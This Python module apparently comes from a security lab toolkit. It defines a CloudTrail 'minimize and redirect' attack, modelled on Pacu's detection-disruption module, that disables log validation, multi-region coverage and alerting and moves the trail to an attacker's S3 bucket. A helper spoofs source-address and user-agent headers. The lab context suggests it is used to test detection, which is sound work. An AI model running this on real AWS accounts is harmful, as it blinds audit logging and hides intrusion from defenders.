"""The attack of the demonstration: one UpdateTrail call blinds a trail and moves it to the attacker's bucket.

The settings are those of the "minimize" technique of the open-source framework Pacu (module
`detection__disruption`), which switches off everything a trail can do without, and the bucket is changed too.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from toolkit.lab.account import ATTACKER_BUCKET, TRAIL_NAME, AccessKey
from toolkit.lab.emulator.server import Lab

MINIMIZE: Mapping[str, Any] = {
    "SnsTopicName": "",
    "IncludeGlobalServiceEvents": False,
    "IsMultiRegionTrail": False,
    "EnableLogFileValidation": False,
    "CloudWatchLogsLogGroupArn": "",
    "CloudWatchLogsRoleArn": "",
    "KmsKeyId": "",
}


@dataclass(frozen=True)
class Attack:
    """One way to hurt a trail, with what it sends."""

    name: str
    operation: str
    parameters: Mapping[str, Any]

    def detonate(self, lab: Lab, key: AccessKey) -> Any:
        """Make the call with the attacker's own key; ClientError where AWS refuses it."""
        return self.by(lab.client("cloudtrail", **key.credentials))

    def by(self, client: Any) -> Any:
        """Make the call with a client for CloudTrail; ClientError where AWS refuses it."""
        return client._make_api_call(self.operation, dict(self.parameters))


MINIMIZE_AND_REDIRECT = Attack(
    name="minimize and redirect",
    operation="UpdateTrail",
    parameters={"Name": TRAIL_NAME, "S3BucketName": ATTACKER_BUCKET, **MINIMIZE},
)


def calling_from(client: Any, address: str, *, user_agent: str = "") -> Any:
    """Let a client of the lab say where it is, and what it is: all of them are on loopback, and boto3."""

    def say(request: Any, **_context: Any) -> None:
        # Neither is signed, so both may be set at the last moment.
        request.headers["X-Forwarded-For"] = address
        if user_agent:
            request.headers["User-Agent"] = user_agent

    client.meta.events.register(f"before-send.{client.meta.service_model.service_id.hyphenize()}", say)
    return client
